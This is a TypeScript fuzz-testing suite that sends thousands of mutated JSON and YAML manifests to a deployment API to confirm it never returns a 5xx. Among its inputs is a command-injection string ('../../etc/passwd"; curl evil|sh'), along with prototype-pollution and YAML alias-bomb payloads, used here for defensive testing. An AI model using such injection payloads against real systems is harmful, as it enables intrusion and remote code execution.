// Fuzzing the real server: thousands of generated and mutated bodies, media types and headers.
// Whatever arrives, the answer is never a 5xx, and every rejection is a well-formed JSON error; a
// 400 names a path on each of its problems, and whatever is accepted renders.
import fc from 'fast-check';
import { stringify as toYaml } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTofuInputs } from '../../server/tofu-inputs';
import { renderFluxTree } from '../../src/shared/lib/flux/render-flux-tree';
import { apiErrorSchema } from '../../src/shared/schemas/api';
import type { SovereignManifest } from '../../src/shared/schemas/manifest';
import { validManifest } from './fixtures';
import { startServer, type TestServer } from './harness';

let t: TestServer;
beforeAll(async () => {
  t = await startServer();
});
afterAll(() => t.close());

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };
const VALID = JSON.parse(JSON.stringify(validManifest('fuzz'))) as Json;

function pathsOf(v: Json, prefix: (string | number)[] = []): (string | number)[][] {
  const out: (string | number)[][] = [prefix];
  if (Array.isArray(v)) v.forEach((x, i) => out.push(...pathsOf(x, [...prefix, i])));
  else if (v && typeof v === 'object')
    for (const [k, x] of Object.entries(v)) out.push(...pathsOf(x, [...prefix, k]));
  return out;
}
const PATHS = pathsOf(VALID).filter((p) => p.length > 0);

/** The valid manifest with the value at one path replaced (or deleted when `value` is undefined). */
function mutate(pathIndex: number, value: Json | undefined): Json {
  const copy = JSON.parse(JSON.stringify(VALID)) as Json;
  const path = PATHS[pathIndex % PATHS.length] ?? [];
  let node = copy as Record<string | number, Json>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, Json>;
  const last = path[path.length - 1] as string | number;
  if (value === undefined) {
    if (Array.isArray(node)) node.splice(Number(last), 1);
    else delete node[last];
  } else node[last] = value;
  return copy;
}

const printable = fc
  .string({ unit: 'binary-ascii', maxLength: 40 })
  .map((s) => s.replace(/[^\x20-\x7e]/g, ''));
const mediaType = fc.oneof(
  fc.constantFrom(
    'application/json',
    'application/json; charset=utf-8',
    'application/yaml',
    'application/x-yaml',
    'text/yaml',
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/octet-stream',
    'application/json; charset=latin1',
    'APPLICATION/JSON',
  ),
  printable,
);

const deep = fc.nat({ max: 20_000 }).map((n) => '['.repeat(n) + ']'.repeat(n));
const bodyText = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .tuple(fc.nat(), fc.option(fc.jsonValue({ maxDepth: 3 }), { nil: undefined }))
      .map(([i, v]) => JSON.stringify(mutate(i, v as Json | undefined))),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.nat(), fc.option(fc.jsonValue({ maxDepth: 2 }), { nil: undefined }))
      .map(([i, v]) => toYaml(mutate(i, v as Json | undefined))),
  },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)) },
  { weight: 1, arbitrary: fc.string({ maxLength: 300 }) },
  {
    weight: 1,
    arbitrary: fc.uint8Array({ maxLength: 300 }).map((b) => Buffer.from(b).toString('latin1')),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.nat(), fc.nat({ max: 5000 }))
      .map(([i, cut]) => JSON.stringify(mutate(i, null)).slice(0, cut)),
  },
  { weight: 1, arbitrary: deep },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '*a',
      'a: &a [*a]',
      '!!binary aGVsbG8=',
      'a: &x [1,2]\nb: [*x,*x,*x,*x,*x,*x,*x,*x,*x,*x,*x,*x,*x,*x,*x,*x,*x,*x,*x,*x]',
      '{"__proto__": {"polluted": true}}',
      '---\na: 1\n---\nb: 2',
      'apiVersion: catalyst.openova.io/v1alpha0\nkind: Sovereign\nspec: {components: 5}',
      '1e999999',
      '"\\ud800"',
    ),
  },
);

async function expectWellFormed(res: Response, what: string): Promise<void> {
  expect(res.status, what).toBeLessThan(500);
  if (res.status >= 400) {
    expect(res.headers.get('content-type'), what).toMatch(/application\/json/);
    const text = await res.text();
    const parsed = apiErrorSchema.safeParse(JSON.parse(text));
    expect(parsed.success, `${what}: ${text}`).toBe(true);
    expect(text).not.toMatch(/\bat [\w.<>]+ \(|node_modules|\.ts:\d+/);
  } else {
    await res.arrayBuffer();
  }
}

describe('fuzzing the API', () => {
  it('never answers a submit with a 5xx, and every rejection is a JSON error', async () => {
    let created = 0;
    await fc.assert(
      fc.asyncProperty(
        bodyText,
        mediaType,
        fc.option(printable, { nil: undefined }),
        async (body, type, key) => {
          const headers: Record<string, string> = { 'content-type': type };
          if (key !== undefined) headers['idempotency-key'] = key;
          const res = await fetch(`${t.url}/api/v1/deployments`, { method: 'POST', headers, body });
          if (res.status === 201) created++;
          await expectWellFormed(res, `${type} ${body.slice(0, 80)}`);
        },
      ),
      { numRuns: 2500 },
    );
    console.log(`fuzz: 2500 submits, ${created} accepted`);
    expect(created).toBeGreaterThan(0);
  });

  it('never answers reads with a 5xx, whatever the path, query and headers', async () => {
    const res = await fetch(`${t.url}/api/v1/deployments`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(VALID),
    });
    const known = ((await res.json()) as { id: string }).id;
    await t.server.pipeline.idle();
    const id = fc.oneof(fc.constant(known), fc.uuid(), printable.map(encodeURIComponent));
    await fc.assert(
      fc.asyncProperty(
        id,
        fc.constantFrom('', '/manifest', '/gitops', '/events'),
        fc.dictionary(fc.constantFrom('limit', 'cursor', 'lastEventId', 'format'), printable),
        fc.record({ accept: printable, 'last-event-id': printable }, { requiredKeys: [] }),
        async (idValue, suffix, query, headers) => {
          const qs = new URLSearchParams(query).toString();
          const urls = [
            `${t.url}/api/v1/deployments/${idValue}${suffix}?${qs}`,
            `${t.url}/api/v1/deployments?${qs}`,
          ];
          for (const url of urls) {
            const res = await fetch(url, { headers, signal: AbortSignal.timeout(5000) });
            await expectWellFormed(res, url);
          }
        },
      ),
      { numRuns: 600 },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// In-process (app.inject, no sockets): mutations of a valid manifest, several at a time: deleted
// and added fields, wrong types, huge strings, deep nesting within the limits, unicode, duplicate
// keys; plus random JSON and YAML values. The pipeline is stopped: admission is under test, and each
// accepted manifest is rendered here instead.

type Path = (string | number)[];
const OBJECT_PATHS: Path[] = [[], ...PATHS].filter((p) => {
  let node: Json = VALID;
  for (const k of p) node = (node as Record<string | number, Json>)[k] as Json;
  return node !== null && typeof node === 'object' && !Array.isArray(node);
});

/** The node at a path of `root` (undefined when the path no longer exists after other edits). */
function nodeAt(root: Json, p: Path): Json | undefined {
  let node: Json | undefined = root;
  for (const k of p) {
    if (node === null || typeof node !== 'object') return undefined;
    node = (node as Record<string | number, Json>)[k];
  }
  return node;
}

/** A value of another type than `v` (string ↔ number ↔ bool ↔ null ↔ list ↔ mapping). */
function otherType(v: Json | undefined, pick: number): Json {
  const options: Json[] = ['x', 42, -1.5, true, null, [], {}, ['a', 1], { a: 'b' }];
  const differs = options.filter(
    (o) =>
      (o === null) !== (v === null) ||
      Array.isArray(o) !== Array.isArray(v) ||
      typeof o !== typeof v,
  );
  return differs[pick % differs.length] ?? null;
}

/** Stands for a repeated key until toText renames it (a plain word, so YAML leaves it unquoted). */
const DUP = 'zqdupmarkerzq';
type Edit =
  | { kind: 'delete'; at: number }
  | { kind: 'set'; at: number; value: Json }
  | { kind: 'retype'; at: number; pick: number }
  | { kind: 'add'; at: number; key: string; value: Json }
  | { kind: 'huge'; at: number; size: number; char: string }
  | { kind: 'deep'; at: number; depth: number; list: boolean }
  | { kind: 'duplicate'; at: number };

const unicode = fc.string({ unit: 'grapheme', maxLength: 30 });
const anyKey = fc.oneof(
  fc.constantFrom(
    'extra',
    'status',
    '__proto__',
    'constructor',
    'apiVersion',
    'secrets',
    '$schema',
  ),
  unicode,
);
const leaf = fc.oneof(
  fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>,
  unicode,
  fc.constantFrom<Json>(
    '',
    ' ',
    '1.2.3',
    'NaN',
    '../../etc/passwd"; curl evil|sh',
    'ns1.openova.io',
    1e308,
    -0,
    0.1,
  ),
);
const edit: fc.Arbitrary<Edit> = fc.oneof(
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('set' as const), at: fc.nat(), value: leaf }),
  fc.record({ kind: fc.constant('retype' as const), at: fc.nat(), pick: fc.nat() }),
  fc.record({ kind: fc.constant('add' as const), at: fc.nat(), key: anyKey, value: leaf }),
  fc.record({
    kind: fc.constant('huge' as const),
    at: fc.nat(),
    size: fc.integer({ min: 1000, max: 200_000 }),
    char: fc.constantFrom('a', 'é', '😀', ' ', '\\', '"', '\u0000'),
  }),
  fc.record({
    kind: fc.constant('deep' as const),
    at: fc.nat(),
    depth: fc.integer({ min: 1, max: 55 }),
    list: fc.boolean(),
  }),
  fc.record({ kind: fc.constant('duplicate' as const), at: fc.nat() }),
);

/** Applies the edits to a copy of the valid manifest; `duplicate` leaves a marker key for toText. */
function applyEdits(edits: readonly Edit[]): { data: Json; duplicates: string[] } {
  const data = JSON.parse(JSON.stringify(VALID)) as Json;
  const duplicates: string[] = [];
  for (const e of edits) {
    const paths = e.kind === 'add' || e.kind === 'duplicate' ? OBJECT_PATHS : PATHS;
    const p = paths[e.at % paths.length] ?? [];
    if (e.kind === 'add' || e.kind === 'duplicate') {
      const obj = nodeAt(data, p);
      if (obj === null || typeof obj !== 'object' || Array.isArray(obj)) continue;
      if (e.kind === 'add') {
        Object.defineProperty(obj, e.key, {
          value: e.value,
          enumerable: true,
          writable: true,
          configurable: true,
        });
      } else {
        const key = Object.keys(obj)[0];
        if (key === undefined || key === DUP) continue;
        (obj as Record<string, Json>)[DUP] = (obj as Record<string, Json>)[key] ?? null;
        duplicates.push(key);
      }
      continue;
    }
    const parent = nodeAt(data, p.slice(0, -1));
    const last = p[p.length - 1];
    if (parent === null || typeof parent !== 'object' || last === undefined) continue;
    const slot = parent as Record<string | number, Json>;
    if (!(last in slot)) continue;
    if (e.kind === 'delete') {
      if (Array.isArray(parent)) parent.splice(Number(last), 1);
      else delete slot[last];
    } else if (e.kind === 'set') slot[last] = e.value;
    else if (e.kind === 'retype') slot[last] = otherType(slot[last], e.pick);
    else if (e.kind === 'huge') slot[last] = e.char.repeat(Math.ceil(e.size / e.char.length));
    else {
      let v: Json = slot[last] ?? null;
      for (let i = 0; i < e.depth; i++) v = e.list ? [v] : { n: v };
      slot[last] = v;
    }
  }
  return { data, duplicates };
}

/**
 * The text of a body, JSON or YAML, with the duplicate marker renamed to the key it repeats; says
 * whether the text really repeats a key (a later edit may have removed the marker's mapping).
 */
function toText(
  data: Json,
  duplicates: readonly string[],
  yaml: boolean,
): { text: string; duplicate: boolean } {
  const text = yaml ? toYaml(data, { lineWidth: 0 }) : JSON.stringify(data);
  const marker = yaml ? new RegExp(`^(\\s*(?:- )?)${DUP}:`, 'm') : `"${DUP}"`;
  const key = duplicates.at(-1);
  if (key === undefined) return { text, duplicate: false };
  const renamed = text.replace(marker, yaml ? `$1${JSON.stringify(key)}:` : JSON.stringify(key));
  return { text: renamed, duplicate: renamed !== text };
}

const injectBody = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(fc.array(edit, { minLength: 1, maxLength: 4 }), fc.boolean())
      .map(([edits, yaml]) => {
        const { data, duplicates } = applyEdits(edits);
        return { ...toText(data, duplicates, yaml), yaml };
      }),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.jsonValue({ maxDepth: 5 }), fc.boolean())
      .map(([v, yaml]) => ({ text: yaml ? toYaml(v) : JSON.stringify(v), yaml, duplicate: false })),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.string({ unit: 'grapheme', maxLength: 200 }), fc.boolean())
      .map(([text, yaml]) => ({ text, yaml, duplicate: false })),
  },
);

const FUZZ_RUNS = 2000;

describe('fuzzing admission in-process', () => {
  let inj: TestServer;
  beforeAll(async () => {
    inj = await startServer();
    await inj.server.pipeline.close();
  });
  afterAll(() => inj.close());

  it(`answers ${FUZZ_RUNS} generated bodies without a 5xx; every 400 names a path on each problem`, async () => {
    const counts = new Map<number, number>();
    let duplicatesRefused = 0;
    let rendered = 0;
    const t0 = performance.now();
    await fc.assert(
      fc.asyncProperty(injectBody, async ({ text, yaml, duplicate }) => {
        const res = await inj.server.app.inject({
          method: 'POST',
          url: '/api/v1/deployments',
          headers: { 'content-type': yaml ? 'application/yaml' : 'application/json' },
          payload: text,
        });
        counts.set(res.statusCode, (counts.get(res.statusCode) ?? 0) + 1);
        const what = `${res.statusCode} ${yaml ? 'yaml' : 'json'} ${text.slice(0, 120)}: ${res.body.slice(0, 300)}`;
        expect(res.statusCode, what).toBeLessThan(500);
        if (res.statusCode >= 400) {
          expect(res.headers['content-type'], what).toMatch(/application\/json/);
          const body = apiErrorSchema.parse(JSON.parse(res.body));
          expect(res.body, what).not.toMatch(/\bat [\w.<>]+ \(|node_modules|\.ts:\d+/);
          if (res.statusCode === 400) {
            expect(body.error, what).toBe('invalid_manifest');
            expect(body.problems?.length, what).toBeGreaterThan(0);
            for (const p of body.problems ?? []) {
              expect(typeof p.path === 'string' && p.path.length > 0, what).toBe(true);
              expect(p.message.length, what).toBeGreaterThan(0);
            }
          }
        }
        if (duplicate && res.statusCode === 201) throw new Error(`duplicate key accepted: ${what}`);
        if (duplicate && res.statusCode === 400) duplicatesRefused++;
        if (res.statusCode === 201) {
          const { id } = JSON.parse(res.body) as { id: string };
          const row = await inj.server.repo.getDeployment(id);
          const manifest = JSON.parse(row?.manifestJson ?? 'null') as SovereignManifest;
          expect(renderFluxTree(manifest).length).toBeGreaterThan(0);
          expect(buildTofuInputs(manifest).content.length).toBeGreaterThan(0);
          rendered++;
        }
      }),
      { numRuns: FUZZ_RUNS },
    );
    const ms = Math.round(performance.now() - t0);
    const summary = [...counts].sort(([a], [b]) => a - b).map(([c, n]) => `${c}: ${n}`);
    console.log(
      `fuzz (inject): ${FUZZ_RUNS} bodies in ${ms} ms; ${summary.join(', ')}; ` +
        `${duplicatesRefused} duplicate-key bodies refused; ${rendered} accepted and rendered`,
    );
    expect([...counts.keys()].every((c) => c < 500)).toBe(true);
    expect(counts.get(400) ?? 0).toBeGreaterThan(FUZZ_RUNS / 4);
    expect(counts.get(201) ?? 0).toBeGreaterThan(0);
    expect(duplicatesRefused).toBeGreaterThan(0);
  }, 120_000);
});
